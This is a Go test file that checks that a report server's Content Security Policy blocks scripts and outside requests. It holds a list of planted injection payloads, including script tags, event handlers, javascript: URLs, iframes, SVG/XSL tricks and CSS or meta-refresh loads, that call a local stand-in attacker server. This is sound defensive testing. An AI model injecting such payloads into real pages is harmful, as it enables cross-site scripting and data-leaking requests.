package browser_test

import (
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp/kb"

	"lockstep/internal/browser"
	"lockstep/internal/must"
	"lockstep/internal/real/realtest"
	_ "lockstep/internal/report/indexpage"  // the program knows the scripts of all pages,
	_ "lockstep/internal/report/matrixpage" // so the policy here has to know these
	"lockstep/internal/report/page"
	"lockstep/internal/say"
	"lockstep/internal/serve"
)

// store serves these files as `simulate serve` does.
func store(t *testing.T, files map[string][]byte) string {
	t.Helper()
	dir := t.TempDir()
	for name, data := range files {
		must.Do(t, os.WriteFile(filepath.Join(dir, name), data, 0o644))
	}
	root := must.Get(os.OpenRoot(dir))(t)
	t.Cleanup(func() { _ = root.Close() })
	index := golden(t, "index")
	server := httptest.NewServer(serve.New(root, page.Policy(), func() ([]byte, error) { return index, nil }))
	t.Cleanup(server.Close)
	return server.URL + "/"
}

// Every page works under its policy without complaints of the console, as a file and from a server,
// which sends a policy of its own.
func TestOurScriptsRun(t *testing.T) {
	all := pages(t, "comparison", "index", "matrix", "sweep", "worlds")
	all["chinese"], all["english"] = lessonIn(t, "pause-past-lease", say.Chinese), lesson(t, "pause-past-lease")
	files := map[string][]byte{}
	for name, page := range all {
		files[name+".html"] = page
	}
	address := store(t, files)
	for _, name := range slices.Sorted(maps.Keys(all)) {
		for where, p := range map[string]*browser.Page{
			"as a file": browser.Open(t, all[name], browser.Options{}), "served": browser.Visit(t, address+name+".html", browser.Options{}),
		} {
			must.Equalf(t, works(p, name), "", "%s, %s", name, where)
			for _, problem := range append(p.Problems(), p.Requests()...) {
				t.Errorf("%s, %s: %s", name, where, problem)
			}
		}
	}
}

// works describes what does not work in a page; "" if everything does.
func works(p *browser.Page, name string) string {
	switch name {
	case "comparison", "sweep", "worlds":
		if p.Count("script") != 0 || p.Count("table") == 0 {
			return "it has a script, or no table"
		}
	case "index":
		p.Press("/")
		p.Press("no run is called this")
		if p.Text("#none") == "" || p.Count(".runs tbody tr:not([hidden])") != 0 {
			return "the filter hides nothing"
		}
	case "matrix":
		browser.Eval[int](p, `document.querySelector(".heat tbody td a").focus(), 0`)
		p.Press(kb.Enter)
		p.Await("location.hash !== ''")
		p.Await(`document.querySelectorAll("details[open]").length === 1`)
	default:
		p.Press("g")
		if p.Text("#now") == "" || p.Text("#standing td") == "" {
			return "the stepper does not step"
		}
	}
	return ""
}

// A page of another version has another script, which does not run where this version
// serves it. It reads as it does without scripts.
func TestPageOfAnotherVersionReadsWell(t *testing.T) {
	for _, name := range []string{"pause-past-lease", "index", "matrix"}[:realtest.Tiers(1, 3)] {
		page := pages(t, "index", "matrix")[name]
		other := strings.Replace(string(page), "<script>", "<script>document.title = 'ran';", 1)
		from, to := strings.Index(other, "script-src"), strings.Index(other, "; img-src")
		other = other[:from] + "script-src 'unsafe-inline'" + other[to:] // as pages once had it
		if own := browser.Open(t, []byte(other), browser.Options{}); browser.Eval[string](own, "document.title") != "ran" {
			t.Fatalf("%s: the other script does not run anywhere", name)
		}
		served := browser.Visit(t, store(t, map[string][]byte{"other.html": []byte(other)})+"other.html", browser.Options{})
		without := browser.Open(t, page, browser.Options{NoScript: true})
		if got, want := browser.Eval[string](served, "document.title"), browser.Eval[string](without, "document.title"); got != want {
			t.Errorf("%s: the title is %q, want %q", name, got, want)
		}
		if got, want := served.Text("body"), without.Text("body"); got != want || len(got) < 200 {
			t.Errorf("%s reads\n%s\nwithout scripts it is\n%s", name, got, want)
		}
	}
}

// planted are foreign pages that may be in a store: each tries a different attack.
// %s is an address that must not be called. Where an attack needs a reader, the test
// presses Enter on everything.
var planted = map[string]string{
	"inline.html":     `<script>document.title = "owned"; fetch("%[1]sinline")</script>`,
	"module.html":     `<script type="module">document.title = "owned"; import("%[1]smodule")</script>`,
	"external.html":   `<script src="%[1]sscript.js"></script><script src="/own.js"></script>`,
	"own.js":          `document.title = "owned"`,
	"handler.html":    `<img src="data:," onerror="document.title = 'owned'"><svg onload="document.title = 'owned'"></svg><button onclick="document.title = 'owned'" autofocus onfocus="document.title = 'owned'">x</button><details open ontoggle="document.title = 'owned'">x</details>`,
	"javascript.html": `<a href="javascript:void(document.title='owned')">x</a><svg><a href="javascript:void(document.title='owned')" tabindex="0"><text y="20">x</text></a></svg>`,
	"frames.html":     `<iframe src="javascript:void(parent.document.title='owned')"></iframe><iframe src="%[1]sframe"></iframe><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe><object data="%[1]sobject"></object><embed src="%[1]sembed">`,
	"assets.html":     `<img src="%[1]simage"><style>@import "%[1]simport"; @font-face { font-family: x; src: url(%[1]sfont) } body { background: url(%[1]sbackground); font-family: x }</style><p style="background: url(%[1]sattribute)">x</p><video src="%[1]svideo" autoplay></video>`,
	"form.html":       `<form action="%[1]sform"><input name="q" value="x"><button autofocus>x</button></form><form action="javascript:void(document.title='owned')"><button>x</button></form>`,
	"base.html":       `<base href="%[1]s"><img src="based">`,
	"refresh.html":    `<meta http-equiv="refresh" content="0;url=%[1]srefresh">`,
	"script.html":     `<meta http-equiv="refresh" content="0;url=javascript:void(document.title='owned')">`,
	"link.html":       `<link rel="stylesheet" href="%[1]sstyle"><link rel="preconnect" href="%[1]s"><link rel="prefetch" href="%[1]sprefetch"><link rel="preload" as="image" href="%[1]spreload">`,
	"picture.svg":     `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><script>document.title = "owned"; fetch("%[1]ssvg")</script><h:meta http-equiv="refresh" content="0;url=%[1]ssvg-refresh"/><h:img src="%[1]ssvg-image"/></svg>`,
	"plain.svg":       `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title = 'owned'"><script>document.title = "owned"; fetch("%[1]ssvg")</script><image href="%[1]sfigure"/><use href="%[1]suse#x"/><foreignObject><p xmlns="http://www.w3.org/1999/xhtml"><img src="%[1]sforeign"/></p></foreignObject></svg>`,
	"junit.xml":       `<?xml-stylesheet href="%[1]sxslt" type="text/xsl"?><h:html xmlns:h="http://www.w3.org/1999/xhtml"><h:script>document.title = "owned"</h:script><h:meta http-equiv="refresh" content="0;url=%[1]sxml-refresh"/></h:html>`,
}

// A page of the store runs nothing and calls no address when it is served.
func TestPlantedPagesDoNothing(t *testing.T) {
	var calls atomic.Int64
	var last atomic.Value
	last.Store("")
	evil := httptest.NewUnstartedServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		last.Store(r.URL.Path)
	}))
	evil.Config.ConnState = func(_ net.Conn, s http.ConnState) { // even a connection is too much
		if s == http.StateNew {
			calls.Add(1)
		}
	}
	evil.Start()
	t.Cleanup(evil.Close)
	files := map[string][]byte{}
	for name, text := range planted {
		text = strings.ReplaceAll(text, "%[1]s", evil.URL+"/")
		if strings.HasSuffix(name, ".html") {
			text = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>harmless</title></head><body>` + text + `</body></html>`
		}
		files[name] = []byte(text)
	}
	address := store(t, files)
	for _, name := range slices.Sorted(maps.Keys(planted)) {
		if name == "own.js" {
			continue
		}
		calls.Store(0)
		p := browser.Visit(t, address+name, browser.Options{})
		for range 4 {
			p.Press(kb.Tab)
			p.Press(kb.Enter)
		}
		// A page that leads elsewhere at once does so before this timer of the browser ends.
		browser.Eval[int](p, `window.here = true, setTimeout(function () { window.later = true }, 0), 0`)
		p.Await("window.later || !window.here")
		if title := browser.Eval[string](p, "document.title"); title == "owned" {
			t.Errorf("%s: a script ran", name)
		}
		if at := browser.Eval[string](p, "location.href"); strings.HasPrefix(at, evil.URL) {
			t.Errorf("%s led to %s", name, at)
		}
		must.Equalf(t, calls.Load(), 0,
			"%s: called elsewhere … times, last for %q", name, last.Load())
	}
	calls.Store(0)
	browser.Visit(t, evil.URL+"/seen", browser.Options{})
	if calls.Load() == 0 {
		t.Error("a call is not noticed")
	}
}
